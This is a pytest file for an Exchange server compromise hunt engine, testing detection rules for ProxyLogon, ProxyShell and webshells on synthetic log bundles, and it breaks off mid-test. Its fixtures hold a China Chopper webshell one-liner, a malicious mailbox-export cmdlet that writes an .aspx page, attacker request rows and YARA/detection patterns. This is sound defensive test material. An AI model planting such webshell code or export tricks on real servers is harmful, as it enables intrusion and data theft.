"""The hunt engine on built bundles (real log layouts from log-formats.md) and on the demo estate."""

import hashlib
import json
import sys
from pathlib import Path

import pytest
from test_exchange_csv_log import (
    ECP_FIELDS,
    ECP_ROWS,
    HTTPPROXY_HEADER,
    HTTPPROXY_ROWS,
    IIS_FIELDS,
    IIS_ROWS,
    RPS_CMDLET_HEADER,
    RPS_CMDLET_ROWS,
    directive_block,
)

from exchange_remediation import hunt_engine
from exchange_remediation.evidence_bundle import read_bundle_facts
from exchange_remediation.file_scan import yara_scanner
from exchange_remediation.hunt_engine import (
    Finding,
    HuntLimits,
    SourceStats,
    cmdlet_event_fields,
    hunt_bundle,
    parse_parameters,
    required_streams,
)
from exchange_remediation.hunt_rule import RuleSet, build_rule, load_headers, load_rule_set, severity_rank

REPO = Path(__file__).resolve().parents[2]
DATA = str(REPO / "data")
DEMO = REPO / "inventories" / "demo" / "evidence"
EX = "files/C/Program Files/Microsoft/Exchange Server/V15/"
EXW = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
SERVER = {"schema": 1, "hostname": "EX01", "exchange": {"exsetup_version": "15.01.2176.002", "roles": ["Mailbox"],
                                                       "install_path": EXW}}
HEADERS = load_headers(DATA)
CHOPPER = '<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>'
OAB_LINES = [
    "2021-03-03T06:52:17.318Z,EX01,Warning,OABGenerator,Download failed and temporary file "
    f"'{EXW}ClientAccess\\OAB\\Temp\\5f1e2d3c-4b5a-4968-8776-5a4b3c2d1e0f.tmp' needs to be removed.",
    "2021-03-03T06:52:19.904Z,EX01,Warning,OABGenerator,Download failed and temporary file "
    "'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\shell.aspx' needs to be removed.",
]
MANAGEMENT_EVENTS = [
    {"TimeCreated": "2021-08-10T22:30:08.4890000Z", "Id": 1, "ProviderName": "MSExchange CmdletLogs",
     "LevelDisplayName": "Information",
     "Message": 'Cmdlet succeeded. Cmdlet New-MailboxExportRequest, parameters -Mailbox "administrator@contoso.com" '
                '-FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\tkevsn.aspx".',
     "Properties": ["New-MailboxExportRequest",
                    '-Mailbox "administrator@contoso.com" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\'
                    'aspnet_client\\tkevsn.aspx"']},
    {"TimeCreated": "2021-08-10T22:30:18.4570000Z", "Id": 1, "ProviderName": "MSExchange CmdletLogs",
     "LevelDisplayName": "Information",
     "Message": 'Cmdlet succeeded. Cmdlet Remove-MailboxExportRequest, parameters -Identity '
                '"contoso.local/Users/Administrator\\MailboxExport" -Confirm "False".',
     "Properties": ["Remove-MailboxExportRequest",
                    '-Identity "contoso.local/Users/Administrator\\MailboxExport" -Confirm "False"']},
]
APPLICATION_EVENTS = [
    {"TimeCreated": "2021-03-02T04:11:09.0000000Z", "Id": 1000, "ProviderName": "MSExchange Unified Messaging",
     "LevelDisplayName": "Error",
     "Message": "An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to "
                "cast object of type 'System.Object' to type 'System.String'.", "Properties": []},
    {"TimeCreated": "2021-02-07T01:00:00.0000000Z", "Id": 106, "ProviderName": "MSExchange Common",
     "LevelDisplayName": "Warning", "Message": "System.InvalidOperationException", "Properties": ["x"]},
]


# --------------------------------------------------------------------------------- helpers


def make_rule(**data):
    return build_rule(data, f"{data['id']}.yml", {}, HEADERS)


def rule_set(*rules, yara=""):
    return RuleSet(rules=tuple(rules), lists={}, yara_source=yara, headers=HEADERS)


HTTPPROXY_RULE = make_rule(
    id="T-HTTPPROXY", title="SSRF", attack="ProxyLogon", cves=["CVE-2021-26855"], severity="high",
    source={"type": "exchange_log", "stream": "HttpProxy", "paths": ["<EX>Logging\\HttpProxy\\**\\*.log"]},
    prefilter=["ServerInfo~"],
    condition={"field": "AnchorMailbox", "like": "ServerInfo~*/*"},
    exclusions=[
        {"name": "autodiscover-only", "reason": "r", "condition": {"field": "AnchorMailbox",
                                                                   "like": "ServerInfo~*/autodiscover*"}},
        {"name": "localhost", "reason": "r",
         "condition": {"field": "AnchorMailbox", "like": "ServerInfo~localhost*/*"}},
    ],
    severity_when=[{"severity": "critical", "condition": {"all": [
        {"field": "AnchorMailbox", "contains_any": ["/ecp/proxyLogon.ecp", "/ecp/DDI/DDIService.svc"]},
        {"field": "HttpStatus", "in": ["200", "241"]}]}}],
    detail="{AnchorMailbox} from {ClientIpAddress}, status {HttpStatus}",
    report_fields=["DateTime", "ClientIpAddress", "UrlStem", "AnchorMailbox", "HttpStatus"],
)
ECP_RULE = make_rule(
    id="T-ECPSERVER", title="script in a vdir URL", attack="ProxyLogon", cves=["CVE-2021-27065"], severity="critical",
    source={"type": "exchange_log", "stream": "ECP", "paths": ["<EX>Logging\\ECP\\Server\\*.log"]},
    prefilter=["VirtualDirectory"],
    condition={"field": "line", "regex": r"Set-\w+VirtualDirectory.+script"},
)
OAB_RULE = make_rule(
    id="T-OABGEN", title="OAB write", attack="ProxyLogon", cves=["CVE-2021-26858"], severity="critical",
    source={"type": "text", "stream": "OABGenerator", "paths": ["<EX>Logging\\OABGeneratorLog\\"],
            "extract": "Download failed and temporary file '(.*?)' needs to be removed"},
    prefilter=["Download failed and temporary file"],
    condition={"field": "capture.1", "like": "*"},
    exclusions=[{"name": "oab-temp", "reason": "r",
                 "condition": {"field": "capture.1", "like": "<EX>ClientAccess\\OAB\\Temp\\*"}}],
    detail="{capture.1}",
)
IIS_RULE = make_rule(
    id="T-WEBSHELL-ACCESS", title="page request", attack="Webshell", severity="high",
    source={"type": "iis_log", "stream": "IIS", "paths": ["<IISLOG>\\W3SVC*\\*.log"]},
    prefilter=[".aspx"],
    condition={"field": "cs-uri-stem", "like_any": ["/aspnet_client/*.aspx", "/owa/auth/*.aspx"]},
    severity_when=[{"severity": "critical", "condition": {"field": "page_on_disk", "equals": "true"}}],
    report_fields=["cs-uri-stem", "page_on_disk"],
)
CRAWLER_RULE = make_rule(
    id="T-PYTHON-UA", title="exploit UA", attack="ProxyLogon", severity="medium", requires_attack_hit="ProxyLogon",
    source={"type": "iis_log", "stream": "IIS", "paths": ["<IISLOG>\\W3SVC*\\*.log"]},
    prefilter=["python-requests"],
    condition={"field": "cs(User-Agent)", "starts_with": "python-requests/"},
)
EXPORT_RULE = make_rule(
    id="T-EXPORT", title="export to a page", attack="ProxyShell", severity="critical",
    source={"type": "cmdlet", "stream": "MSExchangeManagement",
            "paths": ["<EX>Logging\\CmdletInfra\\Powershell-Proxy\\Cmdlet\\*.log"],
            "channels": ["MSExchange Management"]},
    prefilter=["MailboxExportRequest"],
    condition={"all": [{"field": "Cmdlet", "equals": "New-MailboxExportRequest"},
                       {"field": "param.FilePath", "ends_with": [".aspx", ".asp"]}]},
    detail="{Cmdlet} {param.FilePath} ({ExecutionResult})",
)
UM_RULE = make_rule(
    id="T-UM", title="UM", attack="ProxyLogon", severity="high",
    source={"type": "event", "stream": "Application", "channels": ["Application"]},
    condition={"all": [{"field": "ProviderName", "equals": "MSExchange Unified Messaging"},
                       {"field": "Message", "contains": "InvalidCastException"}]},
)
FILE_RULE = make_rule(
    id="T-WEBSHELL-FILE", title="webshell", attack="Webshell", severity="critical",
    source={"type": "file", "stream": "WebFolders", "paths": ["<WWW>\\aspnet_client\\**\\*.aspx"]},
    condition={"any": [{"field": "text", "contains": "eval(Request"}, {"field": "yara", "like": "*"},
                       {"field": "sha256", "equals": "ab" * 32}]},
)
ALL_RULES = (HTTPPROXY_RULE, ECP_RULE, OAB_RULE, IIS_RULE, CRAWLER_RULE, EXPORT_RULE, UM_RULE, FILE_RULE)


def write(bundle, relative, lines=None, *, data=None, bom=False, eol="\r\n"):
    path = Path(bundle, *relative.split("/"))
    path.parent.mkdir(parents=True, exist_ok=True)
    if data is None:
        data = ("\ufeff" if bom else "").encode() + "".join(line + eol for line in lines).encode("utf-8")
    path.write_bytes(data)
    return path


def write_events(bundle, channel, events):
    lines = [json.dumps(event) for event in events]
    write(bundle, f"eventlogs/{channel}.jsonl", lines, eol="\n")


def build_bundle(bundle):
    """A Mailbox server with every standard stream, in the layouts log-formats.md describes."""
    # Layout B, BOM, CRLF, upper-case .LOG.
    write(bundle, EX + "Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG",
          [HTTPPROXY_HEADER, *directive_block("HttpProxy Logs", HTTPPROXY_HEADER), *HTTPPROXY_ROWS[:5]], bom=True)
    # Layout A, no BOM, LF, lower-case .log, and the folders in another case.
    write(bundle, "files/c/PROGRAM FILES/microsoft/exchange server/v15/logging/httpproxy/Owa/HttpProxy_2021-1.log",
          [*directive_block("HttpProxy Logs", HTTPPROXY_HEADER, "2021-03-08T11:00:00.000Z"), HTTPPROXY_ROWS[5]],
          eol="\n")
    write(bundle, EX + "Logging/ECP/Server/ECPServer20210303-1.LOG",
          [*directive_block("ECP Server Log", ECP_FIELDS[len("#Fields: "):]), *ECP_ROWS], bom=True)
    write(bundle, EX + "Logging/OABGeneratorLog/OABGenerator20210303-1.LOG",
          [*directive_block("OABGenerator Log", "DateTime,ServerName,EventLevel,Component,Message"), *OAB_LINES])
    write(bundle, EX + "Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2021081022-1.LOG",
          [RPS_CMDLET_HEADER, *directive_block("Rps Cmdlet Logs", RPS_CMDLET_HEADER), *RPS_CMDLET_ROWS], bom=True)
    shell_row = ("2021-03-03 06:53:41 10.0.10.11 POST /aspnet_client/system_web/4BETNm9k.aspx - 443 - "
                 "104.250.191.110 antSword/v2.1 - 200 0 0 16 512 1024")
    write(bundle, "files/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log", [
        "#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0", "#Date: 2021-03-03 00:00:00",
        IIS_FIELDS, *IIS_ROWS[3:8],
        "#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0", "#Date: 2021-03-03 06:53:00",
        IIS_FIELDS + " sc-bytes cs-bytes", shell_row,
    ])
    write(bundle, "files/C/inetpub/wwwroot/aspnet_client/system_web/4BETNm9k.aspx",
          [f"ExternalUrl                     : http://f/{CHOPPER}"])
    write(bundle, EX + "FrontEnd/HttpProxy/owa/auth/logon.aspx", ["<%@ Page %>"])
    write(bundle, EX + "FrontEnd/HttpProxy/ecp/auth/TimeoutLogoff.aspx", ["<%@ Page %>"])
    write_events(bundle, "MSExchange Management", MANAGEMENT_EVENTS)
    write_events(bundle, "Application", APPLICATION_EVENTS)
    return bundle


def build(tmp_path, name="ex01"):
    root = tmp_path / name
    root.mkdir()
    return build_bundle(str(root))


def summary(hunt):
    return sorted((f.rule, f.severity, f.source.rsplit("\\", 1)[-1], f.line) for f in hunt.findings)


# --------------------------------------------------------------------------------- the hunt


def test_findings_on_a_bundle_of_every_layout(tmp_path):
    root = build(tmp_path)
    hunt = hunt_bundle(root, rule_set(*ALL_RULES), SERVER)
    assert summary(hunt) == sorted([
        # HttpProxy Layout B: header line 1, directives 2-6, rows from line 7; row 9 (autodiscover) excluded.
        ("T-HTTPPROXY", "critical", "HttpProxy_2021030306-1.LOG", 10),
        ("T-HTTPPROXY", "critical", "HttpProxy_2021030306-1.LOG", 11),
        ("T-ECPSERVER", "critical", "ECPServer20210303-1.LOG", 8),
        ("T-OABGEN", "critical", "OABGenerator20210303-1.LOG", 7),
        ("T-WEBSHELL-ACCESS", "high", "u_ex210303.log", 8),
        ("T-WEBSHELL-ACCESS", "high", "u_ex210303.log", 9),
        ("T-WEBSHELL-ACCESS", "critical", "u_ex210303.log", 14),
        ("T-PYTHON-UA", "medium", "u_ex210303.log", 6),
        ("T-EXPORT", "critical", "Rps_Cmdlet_2021081022-1.LOG", 9),
        ("T-EXPORT", "critical", "eventlog:MSExchange Management", None),
        ("T-UM", "high", "eventlog:Application", None),
        ("T-WEBSHELL-FILE", "critical", "4BETNm9k.aspx", None),
    ])
    assert hunt.excluded == {"T-HTTPPROXY": 2, "T-OABGEN": 1}
    assert hunt.rules == len(ALL_RULES)
    assert hunt.dropped == 0
    assert hunt.warnings == []

    by_line = {(f.rule, f.line): f for f in hunt.findings}
    session = by_line[("T-HTTPPROXY", 10)]
    assert session.time == "2021-03-03T06:49:46.210Z"
    assert session.source == EXW + "Logging\\HttpProxy\\Ecp\\HttpProxy_2021030306-1.LOG"
    assert session.detail == "ServerInfo~a]@ex01.contoso.local:444/ecp/proxyLogon.ecp?# from 203.0.113.45, status 241"
    assert session.fields["HttpStatus"] == "241"
    assert session.evidence == HTTPPROXY_ROWS[3]
    assert session.cves == ("CVE-2021-26855",)
    report = session.to_report()
    assert report["cve"] == "CVE-2021-26855"
    assert report["attempt"] is False
    assert set(report) == {"rule", "cve", "cves", "severity", "source", "line", "time", "detail", "title", "attack",
                           "evidence", "attempt", "observables"}
    # The request's client, user agent and path, read from the row's own columns.
    assert report["observables"] == {"ip": "203.0.113.45", "user_agent": "python-requests/2.25.1", "url": "/ecp/y.js"}
    # Events and text logs hold no structured client: their findings keep the old shape.
    assert "observables" not in by_line[("T-OABGEN", 7)].to_report()
    assert "observables" not in by_line[("T-UM", None)].to_report()
    assert by_line[("T-WEBSHELL-ACCESS", 14)].fields == {"cs-uri-stem": "/aspnet_client/system_web/4BETNm9k.aspx",
                                                         "page_on_disk": "true"}
    web_access = by_line[("T-WEBSHELL-ACCESS", 14)].observables
    assert web_access["url"] == "/aspnet_client/system_web/4BETNm9k.aspx"
    assert by_line[("T-OABGEN", 7)].detail == "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\shell.aspx"
    export = next(f for f in hunt.findings if f.source == "eventlog:MSExchange Management")
    assert export.time == "2021-08-10T22:30:08.489Z"
    assert export.detail.endswith("tkevsn.aspx (Success)")
    assert json.loads(export.evidence)["Id"] == 1
    shell = next(f for f in hunt.findings if f.rule == "T-WEBSHELL-FILE")
    assert shell.evidence.startswith("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4BETNm9k.aspx, ")
    shell_bytes = (Path(root) / "files/C/inetpub/wwwroot/aspnet_client/system_web/4BETNm9k.aspx").read_bytes()
    assert shell.observables == {"path": "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4BETNm9k.aspx",
                                 "sha256": hashlib.sha256(shell_bytes).hexdigest()}
    # The second IIS block (with sc-bytes/cs-bytes) still finds the client's columns by name.
    assert by_line[("T-WEBSHELL-ACCESS", 14)].observables["ip"] == "104.250.191.110"
    assert by_line[("T-WEBSHELL-ACCESS", 14)].observables["user_agent"] == "antSword/v2.1"


@pytest.mark.parametrize(("logged", "expected"), [
    ("104.140.114.110", "104.140.114.110"),
    ("203.0.113.77 10.0.10.5", "203.0.113.77"),  # Rps_Http proxy chain: the first is the client
    ("fe80::1%12", "fe80::1"),
    ("[2001:db8::0:1]", "2001:db8::1"),
    ("unknown", None),
    ("", None),
])
def test_client_address(logged, expected):
    assert hunt_engine.client_address(logged) == expected


def test_source_statistics(tmp_path):
    root = build(tmp_path)
    sources = hunt_bundle(root, rule_set(*ALL_RULES), SERVER).sources
    proxy = sources["HttpProxy"]
    assert proxy.present and proxy.required and not proxy.capped
    assert proxy.files == 2
    assert proxy.lines == 11 + 6
    # Layout B: the first time is the first row's, not the bare header's.
    assert (proxy.first, proxy.last) == ("2021-03-01T08:14:02.611Z", "2021-03-08T11:02:17.004Z")
    assert proxy.warnings == []
    # The Rps_Cmdlet file ends with a summary row without DateTime: the last time is the row before.
    cmdlet = sources["RpsCmdlet"]
    assert (cmdlet.first, cmdlet.last) == ("2021-08-10T01:01:19.898Z", "2021-08-10T22:30:18.457Z")
    assert not cmdlet.required
    iis = sources["IIS"]
    assert (iis.first, iis.last) == ("2021-03-03T06:49:42Z", "2021-03-03T06:53:41Z")
    management = sources["MSExchangeManagement"]
    assert management.present and management.files == 1 and management.lines == 2
    assert management.first == "2021-08-10T22:30:08.489Z"
    assert sources["Application"].lines == 2
    web = sources["WebFolders"]
    assert web.present and web.required
    assert web.files == 1
    # OAB and Temporary ASP.NET Files are not in this bundle: named, but the stream is present.
    assert any("FrontEnd\\HttpProxy\\OAB" in warning for warning in web.warnings)
    assert all(stats.to_report()["required"] == stats.required for stats in sources.values())
    assert set(sources["ECP"].to_report()) == {"present", "required", "files", "lines", "bytes", "first", "last",
                                               "warnings", "capped"}


def test_requires_attack_hit_needs_a_hit_of_that_attack(tmp_path):
    root = build(tmp_path)
    alone = hunt_bundle(root, rule_set(CRAWLER_RULE, IIS_RULE), SERVER)
    assert "T-PYTHON-UA" not in {f.rule for f in alone.findings}
    with_attack = hunt_bundle(root, rule_set(CRAWLER_RULE, HTTPPROXY_RULE), SERVER)
    assert "T-PYTHON-UA" in {f.rule for f in with_attack.findings}


def test_findings_beyond_the_limit_are_counted(tmp_path):
    root = build(tmp_path)
    hunt = hunt_bundle(root, rule_set(HTTPPROXY_RULE, IIS_RULE), SERVER, HuntLimits(max_findings_per_rule=1))
    assert [f.rule for f in hunt.findings].count("T-HTTPPROXY") == 1
    assert hunt.dropped == 3
    assert hunt.dropped_by_rule == {"T-HTTPPROXY": 1, "T-WEBSHELL-ACCESS": 2}


def test_the_server_install_path_decides_the_oab_exclusion(tmp_path):
    root = tmp_path / "dag3"
    d_ex = "D/Exchange Server/V15/"
    write(str(root), "files/" + d_ex + "Logging/OABGeneratorLog/OABGenerator20261126-1.LOG", [
        *directive_block("OABGenerator Log", "DateTime,ServerName,EventLevel,Component,Message"),
        "2026-11-26T02:00:52.052Z,EX19-DAG3,Warning,OABGenerator,Download failed and temporary file "
        "'D:\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\12cc8e2f.tmp' needs to be removed.",
    ])
    server = {"exchange": {"install_path": "D:\\Exchange Server\\V15\\", "exsetup_version": "15.02.1748.049"}}
    hunt = hunt_bundle(str(root), rule_set(OAB_RULE), server)
    assert hunt.findings == []
    assert hunt.excluded == {"T-OABGEN": 1}
    assert hunt.sources["OABGenerator"].files == 1


# --------------------------------------------------------------------------------- bad input


def test_bad_input_becomes_warnings_on_its_stream(tmp_path):
    root = str(tmp_path / "bad")
    proxy = EX + "Logging/HttpProxy/Ecp/"
    block = [HTTPPROXY_HEADER, *directive_block("HttpProxy Logs", HTTPPROXY_HEADER)]
    # A row cut short (the collector or a crash cut the line).
    write(root, proxy + "HttpProxy_1-1.LOG", [*block, HTTPPROXY_ROWS[3][:300]])
    # Binary junk between rows.
    write(root, proxy + "HttpProxy_2-1.LOG",
               data=("\r\n".join([*block, HTTPPROXY_ROWS[3]]) + "\r\n").encode() + b"\x00" * 4096 + b"\r\n")
    # A 10 MB line holding the literal.
    write(root, proxy + "HttpProxy_3-1.LOG",
               data=("\r\n".join(block) + "\r\n").encode() + b"ServerInfo~" + b"A" * (10 << 20) + b"\r\n")
    # Non-UTF-8 bytes in a candidate row.
    write(root, proxy + "HttpProxy_4-1.LOG",
               data=("\r\n".join(block) + "\r\n").encode()
               + HTTPPROXY_ROWS[3].encode().replace(b"python", b"p\xffthon"))
    # An empty file.
    write(root, proxy + "HttpProxy_5-1.LOG", data=b"")
    # An ECP file without any header.
    write(root, EX + "Logging/ECP/Server/ECPServer20210303-1.LOG", ECP_ROWS)
    # An IIS file whose directive block was lost.
    write(root, "files/C/inetpub/logs/LogFiles/W3SVC1/u_ex210305.log", [IIS_ROWS[6]])
    # No OABGeneratorLog folder at all.
    hunt = hunt_bundle(root, rule_set(HTTPPROXY_RULE, ECP_RULE, OAB_RULE, IIS_RULE), SERVER)

    warnings = "\n".join(hunt.sources["HttpProxy"].warnings)
    assert "HttpProxy_1-1.LOG: 1 rows have fewer columns than the header" in warnings
    assert "HttpProxy_2-1.LOG: binary data: 4096 NUL bytes" in warnings
    assert "HttpProxy_3-1.LOG: line 7: longer than 1048576 bytes, cut" in warnings
    assert "HttpProxy_4-1.LOG: 1 lines with non-UTF-8 bytes, decoded with replacement" in warnings
    assert "HttpProxy_5-1.LOG: empty file" in warnings
    assert hunt.sources["HttpProxy"].files == 5
    ecp = hunt.sources["ECP"]
    assert ecp.present
    assert any("no #Fields line and no header line; read with the default ECP header" in w for w in ecp.warnings)
    # Times come from the first and last data line (rows are in file order, not sorted).
    assert (ecp.first, ecp.last) == ("2021-03-02T09:00:01.113Z", "2021-03-03T06:50:08.396Z")
    iis = hunt.sources["IIS"]
    assert iis.warnings == ["C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210305.log: no #Fields line; "
                            "read with the default IIS field list"]
    assert iis.first == "2021-03-05T03:06:27Z"
    assert any(f.rule == "T-WEBSHELL-ACCESS" and f.time == "2021-03-05T03:06:27Z" for f in hunt.findings)
    oab = hunt.sources["OABGenerator"]
    assert not oab.present
    assert oab.warnings == [f"folder {EXW}Logging\\OABGeneratorLog not in the evidence"]
    # The parsable rows still give their findings: the cut row, the binary file's row, the non-UTF-8 row.
    assert {(f.source.rsplit("\\", 1)[-1], f.severity) for f in hunt.findings if f.rule == "T-HTTPPROXY"} >= {
        ("HttpProxy_2-1.LOG", "critical"), ("HttpProxy_4-1.LOG", "critical")}
    assert {f.rule for f in hunt.findings} >= {"T-ECPSERVER"}


def test_unreadable_file_caps_its_stream(tmp_path, monkeypatch):
    root = build(tmp_path)
    real = hunt_engine.scan_file

    def scan(path, literals, **kwargs):
        if path.endswith("ECPServer20210303-1.LOG"):
            raise PermissionError(13, "Permission denied")
        return real(path, literals, **kwargs)

    monkeypatch.setattr(hunt_engine, "scan_file", scan)
    hunt = hunt_bundle(root, rule_set(ECP_RULE, HTTPPROXY_RULE), SERVER)
    ecp = hunt.sources["ECP"]
    assert ecp.present and ecp.capped
    assert ecp.warnings == [f"{EXW}Logging\\ECP\\Server\\ECPServer20210303-1.LOG: unreadable (Permission denied)"]
    assert not hunt.sources["HttpProxy"].capped


def test_a_parser_fault_is_a_warning_not_a_crash(tmp_path, monkeypatch):
    root = build(tmp_path)

    def broken(self, kind, number, text):
        raise RuntimeError("boom")

    monkeypatch.setattr(hunt_engine._FileReader, "record", broken)
    hunt = hunt_bundle(root, rule_set(ECP_RULE), SERVER)
    assert hunt.sources["ECP"].capped
    assert "RuntimeError: boom" in hunt.sources["ECP"].warnings[0]


def test_missing_everything(tmp_path):
    hunt = hunt_bundle(str(tmp_path), rule_set(*ALL_RULES), None)
    assert hunt.findings == []
    for stream in ("HttpProxy", "ECP", "OABGenerator", "Application", "MSExchangeManagement", "WebFolders"):
        stats = hunt.sources[stream]
        assert not stats.present and stats.required, stream
        assert stats.warnings, stream
    assert hunt.sources["Application"].warnings == ["event log Application: not in the evidence"]


def test_yara_missing_keeps_the_verdict_open(tmp_path, monkeypatch):
    root = build(tmp_path)
    yara_rule = make_rule(
        id="T-YARA", title="yara", attack="Webshell", severity="critical",
        source={"type": "file", "stream": "WebFolders", "paths": ["<WWW>\\aspnet_client\\**\\*"]},
        condition={"field": "yara", "like": "*"},
    )
    source = 'rule ChinaChopper { strings: $a = "eval(Request" condition: $a }'
    hunt = hunt_bundle(root, rule_set(yara_rule, yara=source), SERVER)
    assert [f.rule for f in hunt.findings] == ["T-YARA"]
    assert "YARA ChinaChopper" in hunt.findings[0].evidence
    assert not hunt.sources["WebFolders"].capped
    monkeypatch.setitem(sys.modules, "yara_x", None)
    yara_scanner.cache_clear()
    try:
        hunt = hunt_bundle(root, rule_set(yara_rule, yara=source), SERVER)
    finally:
        yara_scanner.cache_clear()
    web = hunt.sources["WebFolders"]
    assert web.capped
    assert "YARA scan not run: the Python package yara-x is not installed" in web.warnings
    assert hunt.findings == []


# --------------------------------------------------------------------------------- live bundles


def test_live_bundle_counts_caps_and_listing(tmp_path):
    root = str(tmp_path / "live")
    log = EXW + "Logging\\HttpProxy\\Ecp\\HttpProxy_2021030306-1.LOG"
    # The collector kept the header block, the first and last data line and the candidates.
    kept = [HTTPPROXY_HEADER, *directive_block("HttpProxy Logs", HTTPPROXY_HEADER),
            HTTPPROXY_ROWS[0], HTTPPROXY_ROWS[3], HTTPPROXY_ROWS[1]]
    write(root, EX + "Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG", kept)
    write_events(root, "Application", APPLICATION_EVENTS[:1])
    write(root, "listing.jsonl", [json.dumps(item) for item in (
        {"path": "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx", "size": 812, "sha256": "ab" * 32,
         "modified": "2021-03-03T06:52:20Z", "copied": False, "truncated": False, "stream": "WebFolders"},
        {"path": EXW + "FrontEnd\\HttpProxy\\owa\\auth", "type": "dir"},
    )], eol="\n")
    collection = {
        "schema": 1, "collected_at": "2021-03-09T14:27:05.000Z",
        "tokens": {"<EX>": EXW, "<SYS>": "C:", "<WWW>": "C:\\inetpub\\wwwroot", "<IISLOG>": None},
        "files": {
            log: {"stream": "HttpProxy", "lines": 5012, "bytes": 2500000, "kept": 9, "capped": False, "read": True,
                  "line_numbers": [1, 2, 3, 4, 5, 6, 7, 4012, 5012], "bundle_path": "x"},
            EXW + "Logging\\ECP\\Server\\ECPServer20210303-1.LOG": {
                "stream": "ECP", "lines": 900, "bytes": 90000, "kept": 0, "capped": False, "read": False,
                "line_numbers": [], "bundle_path": None},
        },
        "events": {"Application": {"count": 40000, "kept": 1, "capped": True, "first": "2021-01-01T00:00:00.000Z",
                                   "last": "2021-03-09T10:00:00.000Z", "error": None}},
        "caps_hit": [{"cap": "max_events_per_channel", "stream": "Application", "source": "Application",
                      "limit": 20000, "detail": "20000 events kept"}],
        "errors": ["logs C:\\x: access denied"],
        "roots": [{"kind": "files", "stream": "WebFolders", "root": "<WWW>\\aspnet_client",
                   "path": "C:\\inetpub\\wwwroot\\aspnet_client", "found": True, "files": 1}],
    }
    write(root, "collection.json", [json.dumps(collection)], eol="\n")
    hunt = hunt_bundle(root, rule_set(HTTPPROXY_RULE, FILE_RULE, UM_RULE, ECP_RULE), SERVER)

    proxy = hunt.sources["HttpProxy"]
    assert (proxy.lines, proxy.bytes, proxy.files) == (5012, 2500000, 1)
    assert (proxy.first, proxy.last) == ("2021-03-01T08:14:02.611Z", "2021-03-01T08:15:05.344Z")
    finding = next(f for f in hunt.findings if f.rule == "T-HTTPPROXY")
    # Line 8 of the reduced copy was line 4012 on the server.
    assert finding.line == 4012
    ecp = hunt.sources["ECP"]
    assert ecp.present and ecp.capped and ecp.lines == 900
    assert "the collection cap was reached" in ecp.warnings[0]
    application = hunt.sources["Application"]
    assert application.capped and application.lines == 40000
    assert application.first == "2021-01-01T00:00:00.000Z"
    web = hunt.sources["WebFolders"]
    assert web.present and web.files == 1 and web.bytes == 812
    shell = next(f for f in hunt.findings if f.rule == "T-WEBSHELL-FILE")
    assert shell.source == "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx"
    assert shell.time == "2021-03-03T06:52:20Z"
    assert "content not copied" in shell.evidence
    assert hunt.warnings == ["collection: logs C:\\x: access denied"]


def test_damaged_collection_json_caps_the_required_streams(tmp_path):
    root = build(tmp_path)
    write(root, "collection.json", ["{not json"], eol="\n")
    hunt = hunt_bundle(root, rule_set(HTTPPROXY_RULE), SERVER)
    assert hunt.sources["HttpProxy"].capped
    assert "collection.json cannot be read" in hunt.warnings[0]


# --------------------------------------------------------------------------------- server kinds


@pytest.mark.parametrize(
    ("server", "required"),
    [
        (None, {"HttpProxy", "ECP", "OABGenerator", "Application", "MSExchangeManagement", "WebFolders"}),
        (SERVER, {"HttpProxy", "ECP", "OABGenerator", "Application", "MSExchangeManagement", "WebFolders"}),
        ({"exchange": {"exsetup_version": "14.03.0513.000", "roles": ["Mailbox", "ClientAccess"]}},
         {"Application", "MSExchangeManagement", "WebFolders"}),
        ({"exchange": {"exsetup_version": "15.02.1748.043", "roles": ["EdgeTransport"]}},
         {"Application", "MSExchangeManagement"}),
        ({"exchange": {"exsetup_version": "15.00.1497.048", "roles": ["ClientAccess"]}},
         {"HttpProxy", "Application", "MSExchangeManagement", "WebFolders"}),
    ],
)
def test_required_streams(server, required):
    assert required_streams(server) == required


def test_exchange_2010_has_no_httpproxy_and_no_warning_about_it(tmp_path):
    hunt = hunt_bundle(str(tmp_path), rule_set(*ALL_RULES),
                       {"exchange": {"exsetup_version": "14.03.0513.000", "roles": ["Mailbox"]}})
    for stream in ("HttpProxy", "ECP", "OABGenerator"):
        assert not hunt.sources[stream].required
        assert hunt.sources[stream].warnings == []
    assert hunt.sources["WebFolders"].required
    assert any("ClientAccess\\Owa\\auth" in w for w in hunt.sources["WebFolders"].warnings)


def test_edge_server_only_needs_its_event_logs(tmp_path):
    write_events(str(tmp_path), "Application", APPLICATION_EVENTS)
    hunt = hunt_bundle(str(tmp_path), rule_set(*ALL_RULES),
                       {"exchange": {"exsetup_version": "15.02.1748.043", "roles": ["EdgeTransport"]}})
    assert {name for name, stats in hunt.sources.items() if stats.required} == {"Application", "MSExchangeManagement"}
    # No IIS, HttpProxy or web folders on Edge: not a gap, so no warning either.
    assert {name: stats.warnings for name, stats in hunt.sources.items() if stats.warnings} == {
        "MSExchangeManagement": ["event log MSExchange Management: not in the evidence"]}
    assert hunt.sources["Application"].present


# --------------------------------------------------------------------------------- cmdlets


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('-Mailbox "administrator@contoso.com" -IncludeFolders "#Drafts#" -ContentFilter "Subject -eq \'tkevsn\'"',
         {"Mailbox": "administrator@contoso.com", "IncludeFolders": "#Drafts#",
          "ContentFilter": "Subject -eq 'tkevsn'"}),
        ("-ExternalUrl 'http://f/<script>x''y</script>' -Identity x", {"ExternalUrl": "http://f/<script>x'y</script>",
                                                                      "Identity": "x"}),
        ('-Name "say ""hi""" -Force -Confirm:$false -ResultSize 5', {"Name": 'say "hi"', "Force": "True",
